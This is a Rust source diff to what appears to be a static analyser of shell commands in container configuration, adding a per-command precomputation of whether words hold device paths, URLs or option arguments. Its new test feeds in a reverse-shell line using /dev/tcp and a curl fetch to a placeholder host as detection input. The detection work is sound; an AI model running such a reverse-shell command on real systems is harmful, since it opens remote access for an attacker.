@@ -20,6 +20,8 @@ use std::ops::{Deref, Range};
 use std::rc::Rc;
 use std::sync::{Arc, LazyLock, Mutex, MutexGuard, PoisonError};
 
+use memchr::memmem::Finder;
+
 use crate::model::Container;
 use crate::text::MappedText;
 use crate::yaml::{NodeRef, ScalarSource};
@@ -58,6 +60,8 @@ struct ScriptCommand {
     redirects: Vec<Arc<MappedText>>,
     pipe_from: Option<usize>,
     in_substitution: Option<usize>,
+    /// What its words hold, for every container running the script.
+    mentions: Mentions,
 }
 
 /// The commands of `script` ([`shell::parse`]) as [`Code`] records them.
@@ -69,11 +73,14 @@ fn script_commands(script: &str) -> Vec<ScriptCommand> {
             let wrapper = wrapper_assignments(&command.words[..start], |word, range| Arc::new(word.slice(range)));
             let prefixes = command.assignments.into_iter().map(|a| (Arc::new(a.name), Arc::new(a.value)));
             let words: Vec<Arc<MappedText>> = command.words.drain(start..).map(Arc::new).collect();
+            let redirects: Vec<Arc<MappedText>> =
+                command.redirects.into_iter().map(|redirect| Arc::new(redirect.target)).collect();
             ScriptCommand {
+                mentions: Mentions::of(&words, &redirects, |word| word.as_str()),
                 program_start: program_start(words.first().map_or("", |word| word.as_str())),
                 words,
                 assignments: prefixes.chain(wrapper).collect(),
-                redirects: command.redirects.into_iter().map(|redirect| Arc::new(redirect.target)).collect(),
+                redirects,
                 pipe_from: command.pipe_from,
                 in_substitution: command.in_substitution,
             }
@@ -267,6 +274,51 @@ pub struct Command {
     /// Where the program's base name starts in `words[0]`: the rules ask for it 240,000
     /// times on the corpus, for 30,000 commands.
     program_start: usize,
+    /// What its words hold; `None` only for a [`Command::default`], which rules then read
+    /// word by word.
+    mentions: Option<Mentions>,
+}
+
+/// Substrings that rules search every word of every command for, noted once per command
+/// (once per distinct script for the commands of a parsed script): most commands hold
+/// none, and a rule then skips the command whole instead of setting up a search per word
+/// (the corpus's 30,000 commands have 150,000 words, mostly short).
+#[derive(Clone, Copy, Debug, Default)]
+struct Mentions {
+    /// Some word or redirect target holds `/dev/`.
+    device_path: bool,
+    /// Some word holds `://`.
+    scheme_separator: bool,
+    /// Bit `i` set when argument `i` (of [`Command::args`], `i < 64`) starts with `-` or
+    /// holds a `:`.
+    option_or_colon_args: u64,
+}
+
+impl Mentions {
+    /// What `words` (program first) and `redirects` hold; `text` reads a word.
+    fn of<W>(words: &[W], redirects: &[W], text: fn(&W) -> &str) -> Mentions {
+        static DEVICE_PATH: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new("/dev/"));
+        static SCHEME_SEPARATOR: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new("://"));
+        let mut mentions = Mentions::default();
+        for (index, word) in words.iter().chain(redirects).enumerate() {
+            let bytes = text(word).as_bytes();
+            // Both markers hold a slash, which most words lack: the searches start at the
+            // first one (`://` one byte before it).
+            if let Some(slash) = memchr::memchr(b'/', bytes) {
+                mentions.device_path |= DEVICE_PATH.find(&bytes[slash..]).is_some();
+                mentions.scheme_separator |=
+                    index < words.len() && SCHEME_SEPARATOR.find(&bytes[slash.saturating_sub(1)..]).is_some();
+            }
+            let arg = index.wrapping_sub(1);
+            if arg < 64
+                && index < words.len()
+                && (bytes.first() == Some(&b'-') || memchr::memchr(b':', bytes).is_some())
+            {
+                mentions.option_or_colon_args |= 1 << arg;
+            }
+        }
+        mentions
+    }
 }
 
 impl Command {
@@ -278,6 +330,22 @@ impl Command {
     /// The arguments after the program.
     pub fn args(&self) -> &[Word] {
         self.words.get(1..).unwrap_or(&[])
+    }
+
+    /// False when no word or redirect target holds `/dev/` (true when not known).
+    pub fn may_hold_device_path(&self) -> bool {
+        self.mentions.is_none_or(|mentions| mentions.device_path)
+    }
+
+    /// False when no word holds `://` (true when not known).
+    pub fn may_hold_url(&self) -> bool {
+        self.mentions.is_none_or(|mentions| mentions.scheme_separator)
+    }
+
+    /// False when argument `index` neither starts with `-` nor holds a `:` (true when not
+    /// known).
+    pub fn may_be_option_or_hold_colon(&self, index: usize) -> bool {
+        self.mentions.is_none_or(|mentions| index >= 64 || mentions.option_or_colon_args & 1 << index != 0)
     }
 }
 
@@ -395,7 +463,9 @@ impl Code {
                 self.add_python(word, depth + 1);
             }
         }
-        self.commands[recorded].words = argv;
+        let command = &mut self.commands[recorded];
+        command.mentions = Some(Mentions::of(&argv, &[], Word::as_str));
+        command.words = argv;
     }
 
     /// A shell script; `positional` are its `$0`, `$1`, ... when run with `sh -c`.
@@ -431,6 +501,7 @@ impl Code {
                     .map(|(name, value)| Assignment { name: within(name), value: within(value) })
                     .collect(),
                 program_start: command.program_start,
+                mentions: Some(command.mentions),
             });
         }
         for code in python_inline {
@@ -583,6 +654,27 @@ mod tests {
         assert!(programs.contains(&"pip"), "{programs:?}");
         assert!(programs.contains(&"nc"), "{programs:?}");
         assert_eq!(code.python.len(), 1);
+    }
+
+    #[test]
+    fn commands_note_what_their_words_hold() {
+        let mut code = Code::default();
+        let script = "bash -i >& /dev/tcp/h/1 0>&1\ncurl -fsSL ftp://h/x\necho hi there\n";
+        code.add_shell(&Word::from(MappedText::verbatim(script, 0)), &[], 0);
+        let [bash, curl, echo] = &code.commands[..] else { panic!("{:?}", code.commands) };
+        assert!(bash.may_hold_device_path() && !bash.may_hold_url());
+        assert!(curl.may_hold_url() && !curl.may_hold_device_path());
+        assert!(curl.may_be_option_or_hold_colon(0) && curl.may_be_option_or_hold_colon(1));
+        assert!(!echo.may_hold_device_path() && !echo.may_hold_url());
+        assert!(!echo.may_be_option_or_hold_colon(0) && !echo.may_be_option_or_hold_colon(1));
+        // Nor does an argv command, whose words are read when it is made.
+        let argv = words(&["curl", "-o", "/dev/null", "x"]);
+        code.add_argv(argv, 0);
+        let curl = code.commands.last().expect("argv command");
+        assert!(curl.may_hold_device_path() && !curl.may_hold_url());
+        assert!(curl.may_be_option_or_hold_colon(0) && !curl.may_be_option_or_hold_colon(2));
+        // A command made otherwise is read word by word.
+        assert!(Command::default().may_hold_url() && Command::default().may_be_option_or_hold_colon(0));
     }
 
     #[test]
